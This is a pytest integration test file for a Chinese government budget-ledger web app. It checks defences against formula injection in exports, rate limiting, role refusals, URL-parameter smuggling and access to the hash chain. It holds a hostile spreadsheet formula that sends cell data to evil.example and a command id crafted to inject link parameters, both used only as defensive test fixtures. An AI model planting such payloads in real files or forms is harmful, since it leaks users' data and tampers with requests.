"""The 工作台 against a hostile reviewer's findings, on SQLite and PostgreSQL: downloads
carry no live formula, the expensive pages are throttled like the API, refusals carry the
API's status, links and redirects encode what they carry, the hash chain is for
ledger-wide readers, and a confirmation shows the exact amount to be posted."""

from __future__ import annotations

import csv
import html
import io
import re
import zipfile
from collections.abc import Iterator
from typing import Any
from urllib.parse import parse_qs, urlsplit

import pytest
from fastapi.testclient import TestClient
from openpyxl import load_workbook

from commands.api import create_app
from commands.cli import seed_path
from commands.handlers import CommandHandler
from commands.importer import import_file
from commands.models import parse_command
from ledger.application import Ledger
from ledger.roles import Role
from ledger.settings import Settings
from tests.integration.test_api import issue
from tests.integration.test_web import LINE, UNIT, sign_in, web  # noqa: F401

EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"点击查看")'


def given(ledger: Ledger, *commands: dict[str, Any]) -> None:
    handler = CommandHandler(ledger)
    for n, fields in enumerate(commands):
        data = {
            "command_id": f"hostile-{n}",
            "posted_by": "会计-王芳",
            "business_date": "2022-03-01",
            **fields,
        }
        handler.handle(parse_command(data))


def test_downloads_carry_no_formula_from_a_project_name(
    web: TestClient,  # noqa: F811
    ledger: Ledger,
) -> None:
    given(
        ledger,
        {"type": "register_project", "unit": UNIT, "code": "PX", "name": EVIL},
        {
            "type": "open_budget_line",
            "unit": UNIT,
            "year": 2022,
            "line": "XM-PX-2010399",
            "title": "+项目指标",
            "nature": "project",
            "function_code": "2010399",
            "fund_source": "general_public_budget",
            "project": "PX",
        },
        {
            "type": "allocate_budget",
            "unit": UNIT,
            "year": 2022,
            "line": "XM-PX-2010399",
            "amount": "1000.00",
            "document_no": "@昌市财预〔2022〕7号",
        },
    )
    sign_in(web, issue(ledger, "审计-张", Role.AUDITOR))
    workbook = web.get(f"/u/{UNIT}/2022/download/workbook")
    assert workbook.status_code == 200, workbook.text
    book = load_workbook(io.BytesIO(workbook.content))
    cells = [c for sheet in book for row in sheet.iter_rows() for c in row if c.value is not None]
    assert any(c.value == EVIL for c in cells), "the project is in the workbook, as text"
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    archive = zipfile.ZipFile(io.BytesIO(web.get(f"/u/{UNIT}/2022/download/csv").content))
    fields = [
        field
        for name in archive.namelist()
        for row in csv.reader(io.StringIO(archive.read(name).decode("utf-8-sig")))
        for field in row
    ]
    assert "'" + EVIL in fields
    assert not [f for f in fields if f[:1] in ("=", "+", "@", "\t", "\r")]
    assert not [f for f in fields if f.startswith("-") and not f[1:].replace(".", "").isdigit()]


@pytest.fixture
def throttled(ledger: Ledger, database_url: str) -> Iterator[TestClient]:
    """The 工作台 with two expensive queries per token, then one every 100 minutes."""
    assert import_file(CommandHandler(ledger), seed_path()).ok
    settings = Settings(
        database_url=database_url, auditor_query_burst=2, auditor_queries_per_minute=0.01
    )
    with TestClient(create_app(settings, ledger=ledger), follow_redirects=False) as client:
        yield client


def refused_as_the_api_refuses(response: Any) -> None:
    assert response.status_code == 429, response.text
    assert int(response.headers["Retry-After"]) >= 1
    assert 'data-code="rate_limited"' in response.text


def test_a_rate_limit_refusal_is_429_with_retry_after(
    throttled: TestClient, ledger: Ledger
) -> None:
    sign_in(throttled, issue(ledger, "审计-张", Role.AUDITOR))
    for _ in range(2):
        assert throttled.get(f"/u/{UNIT}/trail?line={LINE}").status_code == 200
    refused_as_the_api_refuses(throttled.get(f"/u/{UNIT}/trail?line={LINE}"))


def test_a_refused_filter_says_why_where_htmx_asked(throttled: TestClient, ledger: Ledger) -> None:
    """A filtered journal asked by htmx and refused gets the message as a fragment for the
    part of the page that asked (the page tells htmx to swap refusals in too)."""
    sign_in(throttled, issue(ledger, "审计-张", Role.AUDITOR))
    page = throttled.get(f"/u/{UNIT}/2022/journal")
    assert '"[45]..","swap":true' in page.text  # the htmx-config of every page
    for _ in range(2):
        throttled.get(f"/u/{UNIT}/2022/journal?line={LINE}")
    refused = throttled.get(f"/u/{UNIT}/2022/journal?line={LINE}", headers={"HX-Request": "true"})
    refused_as_the_api_refuses(refused)
    assert "<html" not in refused.text and 'role="alert"' in refused.text


def test_a_forbidden_posting_is_403_as_from_the_api(web: TestClient, ledger: Ledger) -> None:  # noqa: F811
    closer = TestClient(web.app, follow_redirects=False)
    closer_csrf = sign_in(closer, issue(ledger, "结账员-赵", Role.CLOSER, units=[UNIT]))
    assert closer.post(f"/u/{UNIT}/2022/close", data={"csrf": closer_csrf}).status_code == 200
    # A clerk sends the closer's field by hand: the books refuse the role (403), as the
    # API does, and post nothing.
    csrf = sign_in(web, issue(ledger, "会计-李娜", Role.CLERK, units=[UNIT]))
    before = ledger.position()
    refused = web.post(
        f"/u/{UNIT}/2022/post/reverse",
        data={
            "csrf": csrf,
            "command_id": "web-clerk-fix",
            "line": LINE,
            "reverses_command_id": "seed-2022-0337",
            "reason": "错账",
            "document_no": "记-2023-01-0001",
            "business_date": "2022-12-31",
            "adjustment_reason": "审计调整",
            "step": "post",
        },
    )
    assert refused.status_code == 403, refused.text
    assert ledger.position() == before


def test_a_filtered_journal_and_a_download_count_against_the_limit(
    throttled: TestClient, ledger: Ledger
) -> None:
    sign_in(throttled, issue(ledger, "会计-李娜", Role.CLERK, units=[UNIT]))
    journal = f"/u/{UNIT}/2022/journal"
    assert throttled.get(f"{journal}?document_no=记-2022-12-0099").status_code == 200
    assert throttled.get(f"/u/{UNIT}/2022/download/json").status_code == 200
    for path in (
        f"{journal}?payee=加油站",
        f"{journal}?project=P01",
        f"{journal}?line={LINE}",
        f"/u/{UNIT}/2022/download/workbook",
        f"/u/{UNIT}/2022/download/csv",
    ):
        refused_as_the_api_refuses(throttled.get(path))
    # The journal without a filter, and the pages of the present, are not throttled.
    assert throttled.get(journal).status_code == 200
    assert throttled.get(f"/u/{UNIT}/2022/reports").status_code == 200
    # Another token has its own allowance.
    other = TestClient(throttled.app, follow_redirects=False)
    sign_in(other, issue(ledger, "审计-张", Role.AUDITOR))
    assert other.get(f"{journal}?payee=加油站").status_code == 200


def test_a_download_builds_only_the_file_asked_for(
    web: TestClient,  # noqa: F811
    ledger: Ledger,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    from projections import exports

    built: list[str] = []
    for name in ("write_xlsx", "write_csv", "write_json", "write_chart", "write_html"):
        original = getattr(exports, name)

        def spy(*args: Any, _name: str = name, _original: Any = original, **kw: Any) -> Any:
            built.append(_name)
            return _original(*args, **kw)

        monkeypatch.setattr(exports, name, spy)
    sign_in(web, issue(ledger, "审计-张", Role.AUDITOR))
    expected = {
        "workbook": ["write_xlsx"],
        "csv": ["write_csv"],
        "json": ["write_json"],
        "chart": ["write_chart"],
        "summary": ["write_chart", "write_html"],  # the summary embeds the chart
    }
    for what, files in expected.items():
        built.clear()
        response = web.get(f"/u/{UNIT}/2022/download/{what}")
        assert response.status_code == 200, (what, response.text)
        assert built == files, what
    assert b"<html" in web.get(f"/u/{UNIT}/2022/download/summary").content
    assert web.get(f"/u/{UNIT}/2022/download/json").json()["fiscal_year"] == 2022


SLY_ID = "z&line=XM-YB&reverses=dy-2022-0013#"


def test_a_command_id_cannot_add_parameters_to_a_link_or_a_redirect(
    web: TestClient,  # noqa: F811
    ledger: Ledger,
) -> None:
    csrf = sign_in(web, issue(ledger, "会计-李娜", Role.CLERK, units=[UNIT]))
    posted = web.post(
        f"/u/{UNIT}/2022/post/allocate",
        data={
            "csrf": csrf,
            "command_id": SLY_ID,
            "line": LINE,
            "amount": "100.00",
            "document_no": "昌市财预〔2022〕98号",
            "business_date": "2022-12-30",
            "step": "post",
        },
    )
    assert posted.status_code == 303, posted.text
    where = urlsplit(posted.headers["location"])
    assert where.path == f"/u/{UNIT}/2022/journal" and not where.fragment
    assert parse_qs(where.query) == {"done": ["posted"], "command_id": [SLY_ID]}
    assert html.escape(SLY_ID) in web.get(posted.headers["location"]).text
    # The journal's 冲销 link pre-fills exactly that posting: its line, its command id.
    journal = web.get(f"/u/{UNIT}/2022/journal?page=1").text
    pages = int(re.search(r"第 1 / (\d+) 页", journal).group(1))  # type: ignore[union-attr]
    journal = web.get(f"/u/{UNIT}/2022/journal?page={pages}").text
    links = [
        html.unescape(h)
        for h in re.findall(r'href="([^"]*/post/reverse\?[^"]*)"', journal)
        if "z%26line" in h
    ]
    assert len(links) == 1, journal
    link = urlsplit(links[0])
    assert parse_qs(link.query) == {"line": [LINE], "reverses": [SLY_ID]}
    form = web.get(links[0]).text
    assert f'value="{html.escape(SLY_ID)}"' in form
    assert 'value="dy-2022-0013"' not in form


def test_the_hash_chain_is_for_auditors_and_admins_of_every_unit(
    web: TestClient,  # noqa: F811
    ledger: Ledger,
) -> None:
    for name, role, units in (
        ("会计-李娜", Role.CLERK, [UNIT]),
        ("结账员-赵", Role.CLOSER, [UNIT]),
        ("审计-本局", Role.AUDITOR, [UNIT]),
    ):
        client = TestClient(web.app, follow_redirects=False)
        sign_in(client, issue(ledger, name, role, units=units))
        refused = client.get("/chain")
        assert refused.status_code == 403, (name, refused.text)
        assert 'id="chain-lines"' not in refused.text and 'data-code="forbidden"' in refused.text
        assert 'href="/chain"' not in client.get("/").text, name
    for name, role in (("审计-张", Role.AUDITOR), ("管理员", Role.ADMIN)):
        client = TestClient(web.app, follow_redirects=False)
        sign_in(client, issue(ledger, name, role))
        assert 'href="/chain"' in client.get("/").text, name
        chain = client.get("/chain")
        assert chain.status_code == 200 and 'id="chain-lines"' in chain.text, name


def test_the_confirmation_shows_the_exact_amount_beside_what_was_typed(
    web: TestClient,  # noqa: F811
    ledger: Ledger,
) -> None:
    csrf = sign_in(web, issue(ledger, "会计-李娜", Role.CLERK, units=[UNIT]))
    values = {
        "csrf": csrf,
        "command_id": "web-confirm-wan",
        "line": LINE,
        "document_no": "昌市财预〔2022〕97号",
        "business_date": "2022-12-30",
        "step": "preview",
    }
    for typed, shown in (
        ("26.08万", "260800.00（所填：26.08万）"),
        ("1,234.5元", "1234.50（所填：1,234.5元）"),
        ("4300.00", "4300.00"),
    ):
        confirm = web.post(f"/u/{UNIT}/2022/post/allocate", data={**values, "amount": typed})
        assert confirm.status_code == 200, confirm.text
        row = re.search(r"<th scope=\"row\">金额（元）</th><td>([^<]*)</td>", confirm.text)
        assert row is not None and html.unescape(row.group(1)) == shown, confirm.text
    posted = web.post(
        f"/u/{UNIT}/2022/post/allocate", data={**values, "amount": "26.08万", "step": "post"}
    )
    assert posted.status_code == 303, posted.text
    journal = web.get(f"/u/{UNIT}/2022/journal?document_no=昌市财预〔2022〕97号").text
    assert "260800.00" in journal
